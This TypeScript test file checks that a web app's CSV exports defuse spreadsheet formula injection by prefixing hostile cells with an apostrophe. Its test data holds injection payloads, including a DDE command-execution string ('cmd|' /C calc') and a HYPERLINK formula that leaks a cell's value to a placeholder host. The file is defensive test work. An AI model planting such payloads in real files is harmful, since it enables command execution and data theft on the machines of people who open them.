/**
 * Formula injection through every server export, fed through the real pipeline: a batch
 * whose cells start with = + - @ TAB CR (OWASP "CSV Injection") is uploaded through the API,
 * checked by the worker from the file store, accepted, and read back from the rows-at-fault,
 * pool rows and data dictionary (CSV) routes. Every hostile cell comes back behind the
 * apostrophe that makes a spreadsheet show it as text; negative numbers stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import Papa from "papaparse";
import { getPool } from "@/db/client";
import { heatPumpRows } from "@/lib/demo/batches";
import { HEAT_PUMP_PLAN } from "@/lib/demo/plans";
import { decideVersion } from "@/lib/batches/commands-decide";
import { GET as rowsAtFaultRoute } from "@/app/api/v1/batches/[id]/versions/[version]/rows-at-fault/route";
import { GET as poolRowsRoute } from "@/app/api/v1/pool/[slug]/rows/route";
import { GET as dictionaryRoute } from "@/app/api/v1/pool/[slug]/dictionary/route";
import { userId } from "./helpers/pipeline";
import { releaseScratchStudy, scratchStudy } from "./helpers/seeded";
import { callAs, startFileStore, stopFileStore, uploadChecked } from "./helpers/security-world";

const SLUG = `sec-export-${process.pid}`;
const HOSTILE_NOTES = [
  "=1+1",
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=2+2",
  '=HYPERLINK("http://example.invalid","x")',
];
const HOSTILE_DESCRIPTION = '=HYPERLINK("http://example.invalid/?leak="&A1,"notes")';
const FORMULA_START = /^[=+\-@\t\r]/;
const isNumber = (s: string) => /^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$/.test(s);

/** RFC 4180 writer for the test's input file (quotes only where the format needs them). */
function csvOf(header: readonly string[], rows: Record<string, string | number>[]): string {
  const q = (v: string | number) =>
    typeof v === "string" && /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : String(v);
  return [header.join(","), ...rows.map((r) => header.map((h) => q(r[h] ?? "")).join(","))].join("\n") + "\n";
}

function parse(text: string): string[][] {
  const r = Papa.parse<string[]>(text, { delimiter: ",", skipEmptyLines: true });
  expect(r.errors).toEqual([]);
  return r.data;
}

/** No cell starts like a formula unless it is a plain number. */
function expectNoFormulaCells(rows: string[][]) {
  for (const row of rows)
    for (const cell of row)
      if (FORMULA_START.test(cell)) expect(isNumber(cell), `cell ${JSON.stringify(cell)}`).toBe(true);
}

const HEADER = Object.keys(heatPumpRows("X", 1, 1)[0]!);
let faulty = { batchId: "", version: 1 };

beforeAll(async () => {
  await startFileStore();
  const plan = structuredClone(HEAT_PUMP_PLAN);
  plan.columns = plan.columns.map((c) =>
    c.name === "installer_note" ? { ...c, description: HOSTILE_DESCRIPTION } : c,
  );
  await scratchStudy(SLUG, {
    title: `Export safety ${SLUG}`,
    plan,
    providers: ["greenhearth"],
    analyst: "analyst2@lowmoor.test",
  });

  // batch A: clean for the checks, with formula-looking notes and negative savings
  const rowsA = heatPumpRows("SA-", 260, 4242);
  HOSTILE_NOTES.forEach((n, i) => (rowsA[i]!.installer_note = n));
  rowsA[10]!.annual_kwh_saved = "-3.2";
  rowsA[11]!.annual_kwh_saved = -999;
  const a = await uploadChecked("installer@greenhearth.test", {
    study: SLUG,
    file: new File([csvOf(HEADER, rowsA)], "notes.csv", { type: "text/csv" }),
  });
  expect(a.report?.status).not.toBe("unreadable");
  const decided = await decideVersion(await userId("analyst2@lowmoor.test"), a.batchId, 1, {
    decision: "accept",
  });
  expect(decided.ok, JSON.stringify(decided)).toBe(true);

  // batch B: formula-looking levels, so the rows carry findings and are listed at fault
  const rowsB = heatPumpRows("SB-", 260, 4343);
  rowsB[3]!.heat_pump_type = "=cmd|' /C calc'!A0";
  rowsB[4]!.insulation_band = "@SUM(1+1)";
  rowsB[4]!.installer_note = "+1+1";
  rowsB[5]!.annual_kwh_saved = -4000; // below the plan's minimum of -3000: a finding, and a number
  const b = await uploadChecked("installer@greenhearth.test", {
    study: SLUG,
    file: new File([csvOf(HEADER, rowsB)], "levels.csv", { type: "text/csv" }),
  });
  faulty = { batchId: b.batchId, version: 1 };
});

afterAll(async () => {
  await releaseScratchStudy(SLUG);
  await stopFileStore();
  await getPool().end();
});

describe("CSV exports are formula-safe", () => {
  it("rows at fault: hostile levels and notes behind an apostrophe, the out-of-range number as it was", async () => {
    const { batchId, version } = faulty;
    const res = await callAs(
      rowsAtFaultRoute,
      `/api/v1/batches/${batchId}/versions/${version}/rows-at-fault`,
      { id: batchId, version: String(version) },
      "installer@greenhearth.test",
    );
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toMatch(
      /^attachment; filename="levels-v1-rows-at-fault\.csv"; filename\*=UTF-8''/,
    );
    const rows = parse(await res.text());
    const head = rows[0]!;
    const byRef = new Map(rows.slice(1).map((r) => [r[head.indexOf("property_ref")], r]));
    const col = (ref: string, name: string) => byRef.get(ref)?.[head.indexOf(name)];
    expect(col("SB-10003", "heat_pump_type")).toBe("'=cmd|' /C calc'!A0");
    expect(col("SB-10004", "insulation_band")).toBe("'@SUM(1+1)");
    expect(col("SB-10004", "installer_note")).toBe("'+1+1");
    expect(col("SB-10005", "annual_kwh_saved")).toBe("-4000");
    expectNoFormulaCells(rows);
  });

  it("pool rows: every hostile note behind an apostrophe, -3.2 and -999 unchanged", async () => {
    const res = await callAs(poolRowsRoute, `/api/v1/pool/${SLUG}/rows`, { slug: SLUG }, "lead@lowmoor.test");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toMatch(
      /^attachment; filename="sec-export-\d+-pool-rows-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    const rows = parse(await res.text());
    const head = rows[0]!;
    expect(rows).toHaveLength(261);
    const notes = rows.slice(1).map((r) => r[head.indexOf("installer_note")]);
    for (const n of HOSTILE_NOTES) expect(notes).toContain(`'${n}`);
    const saved = rows.slice(1).map((r) => r[head.indexOf("annual_kwh_saved")]);
    expect(saved).toContain("-3.2");
    expect(saved).toContain("-999");
    expectNoFormulaCells(rows);
  });

  it("data dictionary CSV: a formula in the plan's description comes back as text", async () => {
    const res = await callAs(
      dictionaryRoute,
      `/api/v1/pool/${SLUG}/dictionary?format=csv`,
      { slug: SLUG },
      "analyst2@lowmoor.test",
    );
    expect(res.status).toBe(200);
    const rows = parse(await res.text());
    const head = rows[0]!;
    const note = rows.find((r) => r[0] === "installer_note")!;
    expect(note[head.indexOf("description")]).toBe(`'${HOSTILE_DESCRIPTION}`);
    // the plan's range of the response is negative at the bottom: a number, kept
    expect(rows.find((r) => r[0] === "annual_kwh_saved")![head.indexOf("min")]).toBe("-3000");
    expectNoFormulaCells(rows);
  });
});
